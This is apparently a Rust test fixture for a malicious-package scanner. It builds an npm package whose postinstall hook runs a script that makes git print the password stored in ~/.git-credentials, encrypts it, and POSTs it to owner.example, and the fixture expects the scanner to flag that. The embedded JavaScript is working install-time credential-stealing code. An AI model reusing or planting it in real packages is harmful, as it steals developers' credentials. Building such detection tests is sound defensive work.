//! An npm `postinstall` that has git itself say the stored password (`git credential fill`), and sends it
//! encrypted.
//!
//! Must be found: git reads its own file, but for the package.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const OWNER_JS: &str = r"const crypto = require('crypto');
const https = require('https');
const os = require('os');
const { spawnSync } = require('child_process');
const file = os.homedir() + '/.git-credentials';
const config = ['-c', 'credential.helper=store --file ' + file];
const told = spawnSync('git', [...config, 'credential', 'fill'], { input: 'protocol=https\nhost=git.example\n\n', env: { ...process.env, GIT_TERMINAL_PROMPT: '0' } });
const cipher = crypto.createCipheriv('aes-256-ctr', crypto.randomBytes(32), crypto.randomBytes(16));
const request = https.request('https://owner.example/', { method: 'POST' }, (answer) => answer.resume());
request.on('error', () => {});
request.end(cipher.update(told.stdout + 'x'));
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("repo-owner", "1.0.2")
        .file("owner.js", OWNER_JS)
        .script("postinstall", "node owner.js");
    package.specimen(
        "npm-git-hands-out-password",
        Expect::malicious(&["credential-read-then-send"]),
    )
}
